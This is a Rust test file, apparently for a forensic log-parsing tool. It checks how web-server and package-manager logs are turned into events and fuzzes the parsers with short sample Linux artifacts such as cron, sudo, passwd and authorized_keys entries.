    let log = r#"127.0.0.1 - frank [10/Oct/2000:13:55:36 -0700] "GET /apache_pb.gif HTTP/1.0" 200 2326 "http://www.example.com/start.html" "Mozilla/4.08 [en] (Win98; I ;Nav)"
203.0.113.9 - - [14/Nov/2023:22:13:20 +0000] "POST /wp-login.php?x=1 HTTP/1.1" 302 - "-" "python-requests/2.31"
garbage line
2001:db8::1 - - [14/Nov/2023:23:13:20 +0100] "\x16\x03\x01" 400 157 "-" "-"
198.51.100.1 - - [14/Nov/2023:22:13:21 +0000] "GET / HTTP/1.1" 200 612
"#;
    let events = split(parse("/var/log/nginx/access.log", log.as_bytes()), &[3]);
    assert_eq!(events.len(), 4);
    let e = &events[0];
    assert_eq!(e.action, Action::NetworkIncoming);
    assert_eq!(e.time, Some(utc("2000-10-10T20:55:36Z")));
    assert_eq!(e.attr("remote_ip"), Some("127.0.0.1"));
    assert_eq!(e.attr("username"), Some("frank"));
    assert_eq!(e.attr("method"), Some("GET"));
    assert_eq!(e.attr("url_path"), Some("/apache_pb.gif"));
    assert_eq!(e.attr("status"), Some("200"));
    assert_eq!(e.attr("bytes"), Some("2326"));
    assert_eq!(e.attr("referer"), Some("http://www.example.com/start.html"));
    assert_eq!(
        e.attr("user_agent"),
        Some("Mozilla/4.08 [en] (Win98; I ;Nav)")
    );
    assert_eq!(e.attr("timezone"), Some("-0700"));
    assert_eq!(events[1].attr("url"), Some("/wp-login.php?x=1"));
    assert_eq!(events[1].attr("url_path"), Some("/wp-login.php"));
    assert_eq!(events[1].attr("bytes"), None);
    assert_eq!(events[2].time, Some(utc("2023-11-14T22:13:20Z")));
    assert_eq!(events[2].attr("method"), None);
    assert_eq!(events[3].attr("user_agent"), None);
    assert!(parser_for("/var/log/apache2/access.log.2.gz").is_some());
    assert!(parser_for("/var/log/httpd/access_log-20240101").is_some());
}

// ---------------------------------------------------------------- package logs

#[test]
fn dpkg_apt_yum_and_dnf_logs() {
    let dpkg = "\
2024-01-01 10:00:00 startup archives unpack
2024-01-01 10:00:01 install nmap:amd64 <none> 7.93+dfsg1-1
2024-01-01 10:00:01 status half-installed nmap:amd64 7.93+dfsg1-1
2024-01-01 10:00:02 upgrade libc6:amd64 2.36-9+deb12u3 2.36-9+deb12u4
2024-01-01 10:00:03 remove netcat-openbsd:amd64 1.219-1 <none>
2024-13-01 10:00:03 install x <none> 1
";
    let events = split(parse("/var/log/dpkg.log", dpkg.as_bytes()), &[6]);
    assert_eq!(events.len(), 3);
    assert_eq!(events[0].action, Action::FileCreate);
    assert_eq!(events[0].attr("package"), Some("nmap"));
    assert_eq!(events[0].attr("architecture"), Some("amd64"));
    assert_eq!(events[0].attr("version"), Some("7.93+dfsg1-1"));
    assert_eq!(events[0].time, Some(utc("2024-01-01T10:00:01Z")));
    assert_eq!(events[1].action, Action::FileWrite);
    assert_eq!(events[1].attr("old_version"), Some("2.36-9+deb12u3"));
    assert_eq!(events[2].action, Action::FileDelete);
    assert_eq!(events[2].attr("version"), Some("1.219-1"));

    let apt = "\
Start-Date: 2024-01-02  09:15:01
Commandline: apt-get install -y nmap socat
Requested-By: bob (1000)
Install: socat:amd64 (1.7.4.4-2), nmap:amd64 (7.93+dfsg1-1), libpcap0.8:amd64 (1.10.3-1, automatic)
Upgrade: curl:amd64 (7.88.1-10, 7.88.1-10+deb12u5)
End-Date: 2024-01-02  09:15:09

Start-Date: 2024-01-03  11:00:00
Commandline: apt remove socat
Remove: socat:amd64 (1.7.4.4-2)
End-Date: 2024-01-03  11:00:02
garbage
";
    let events = split(parse("/var/log/apt/history.log", apt.as_bytes()), &[12]);
    assert_eq!(events.len(), 7);
    assert_eq!(events[0].action, Action::ProcessRun);
    assert_eq!(events[0].attr("cmd"), Some("apt-get install -y nmap socat"));
    assert_eq!(events[0].attr("username"), Some("bob"));
    assert_eq!(events[0].time, Some(utc("2024-01-02T09:15:01Z")));
    assert_eq!(events[3].attr("package"), Some("libpcap0.8"));
    assert_eq!(events[3].attr("automatic"), Some("true"));
    assert_eq!(events[3].attr("username"), Some("bob"));
    assert_eq!(events[4].action, Action::FileWrite);
    assert_eq!(events[4].attr("version"), Some("7.88.1-10+deb12u5"));
    assert_eq!(events[4].attr("old_version"), Some("7.88.1-10"));
    assert_eq!(events[5].attr("cmd"), Some("apt remove socat"));
    assert_eq!(events[5].attr("username"), None);
    assert_eq!(events[6].action, Action::FileDelete);

    let yum = "Jan 05 10:00:00 Installed: nmap-2:7.70-6.el8.x86_64\nJan 05 10:01:00 Erased: telnet-1:0.17-76.el8.x86_64\nJan 05 10:02:00 Exploded: x\n";
    let modified = Utc.with_ymd_and_hms(2024, 2, 1, 0, 0, 0).unwrap();
    let events = split(
        parse_with("/var/log/yum.log", yum.as_bytes(), Some(modified)),
        &[3],
    );
    assert_eq!(events.len(), 2);
    assert_eq!(events[0].attr("package"), Some("nmap"));
    assert_eq!(events[0].attr("version"), Some("2:7.70-6.el8"));
    assert_eq!(events[0].time, Some(utc("2024-01-05T10:00:00Z")));
    assert_eq!(events[1].action, Action::FileDelete);

    let dnf = "\
2024-01-06T10:00:00+0100 DDEBUG Command: dnf install -y nmap
2024-01-06T10:00:05+0100 SUBDEBUG Installed: nmap-3:7.92-1.el9.x86_64
Traceback (most recent call last):
2024-01-06T10:00:06+0100 INFO Complete!
";
    let events = split(parse("/var/log/dnf.rpm.log", dnf.as_bytes()), &[]);
    assert_eq!(events.len(), 2);
    assert_eq!(events[0].attr("cmd"), Some("dnf install -y nmap"));
    assert_eq!(events[1].time, Some(utc("2024-01-06T09:00:05Z")));
    assert_eq!(events[1].attr("architecture"), Some("x86_64"));
}

// ---------------------------------------------------------------- robustness

/// One path each new parser claims, with a realistic record.
const SAMPLES: &[(&str, &str)] = &[
    (
        "/var/log/syslog",
        "Mar  1 10:00:00 h sudo: bob : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/sh",
    ),
    (
        "/var/log/audit/audit.log",
        "type=USER_CMD msg=audit(1700000200.500:510): pid=6000 uid=1000 msg='cwd=\"/\" cmd=6964 res=success'\x1dUID=\"bob\"",
    ),
    (
        "/var/log/audit/audit.log",
        "type=EXECVE msg=audit(1.5:1): argc=3 a0=\"x\" a1_len=4 a1[0]=6869 a2=41",
    ),
    ("/etc/crontab", "*/5 * * * * root /bin/x"),
    ("/var/spool/cron/crontabs/bob", "@reboot /bin/x"),
    (
        "/etc/systemd/system/x.service",
        "[Service]\nExecStart=/bin/x \\\n -y\nUser=r",
    ),
    (
        "/root/.ssh/authorized_keys",
        "command=\"a b\",from=\"x\" ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIK0 c",
    ),
    ("/etc/passwd", "root:x:0:0:root:/root:/bin/bash"),
    ("/etc/shadow", "root:$6$x$y:19675:0:99999:7:::"),
    ("/etc/group", "sudo:x:27:bob"),
    (
        "/var/log/nginx/access.log",
        "1.2.3.4 - - [10/Oct/2000:13:55:36 -0700] \"GET / HTTP/1.0\" 200 2 \"-\" \"ua\"",
    ),
    (
        "/var/log/dpkg.log",
        "2024-01-01 10:00:01 install nmap:amd64 <none> 7.93",
    ),
    (
        "/var/log/apt/history.log",
        "Start-Date: 2024-01-02  09:15:01\nCommandline: apt x\nRequested-By: bob (1000)\nInstall: a:amd64 (1, automatic)",
    ),
    (
        "/var/log/yum.log",
        "Jan 05 10:00:00 Installed: nmap-2:7.70-6.el8.x86_64",
    ),
    (
        "/var/log/dnf.log",
        "2024-01-06T10:00:05+0100 SUBDEBUG Installed: nmap-3:7.92-1.el9.x86_64",
    ),
    ("/etc/ld.so.preload", "/lib/x.so"),
];

const BINARY_PATHS: &[&str] = &[
    "/var/log/wtmp",
    "/var/log/btmp",
    "/run/utmp",
    "/var/log/lastlog",
    "/var/log/journal/x/system.journal",
];

fn run_claimed(path: &str, bytes: &[u8]) {
    let ctx = ArtifactContext {
        host: "h".into(),
        original_path: path.into(),
        modified: None,
    };
    for parser in parsers().iter().filter(|p| p.claims(path)) {
        if let Ok(input) = open_artifact(bytes) {
            for r in parser.parse(&ctx, input).take(10_000) {
                std::hint::black_box(r.ok());
            }
        }
    }
}

#[test]
fn truncations_mutations_and_random_bytes_never_panic() {
    let mut seed = 0x1234_5678_9abc_def1u64;
    let mut next = move || {
        seed ^= seed << 13;
        seed ^= seed >> 7;
        seed ^= seed << 17;
        seed
    };
    for (path, sample) in SAMPLES {
        let bytes = sample.as_bytes();
        for end in 0..=bytes.len() {
            run_claimed(path, &bytes[..end]);
        }
        for _ in 0..200 {
            let mut m = bytes.to_vec();
            for _ in 0..3 {
                let i = (next() as usize) % m.len();
                m[i] = next() as u8;
            }
            run_claimed(path, &m);
        }
    }
    for path in BINARY_PATHS {
        for len in [0usize, 1, 291, 292, 383, 384, 385, 700, 1200] {
            let bytes: Vec<u8> = (0..len).map(|_| next() as u8).collect();
            run_claimed(path, &bytes);
        }
    }
    // Every registered parser is reachable through at least one path above.
    let mut covered: Vec<&str> = SAMPLES
        .iter()
        .map(|(p, _)| *p)
        .chain(BINARY_PATHS.iter().copied())
        .filter_map(|p| parser_for(p).map(|x| x.name()))
        .collect();
    covered.sort_unstable();
    covered.dedup();
    for name in [
        "utmp",
        "lastlog",
        "auditd",
        "journald",
        "syslog_messages",
        "cron",
        "systemd_units",
        "authorized_keys",
        "accounts",
        "web_access",
        "package_logs",
        "ld_so_preload",
    ] {
        assert!(covered.contains(&name), "{name} not exercised");
    }
}
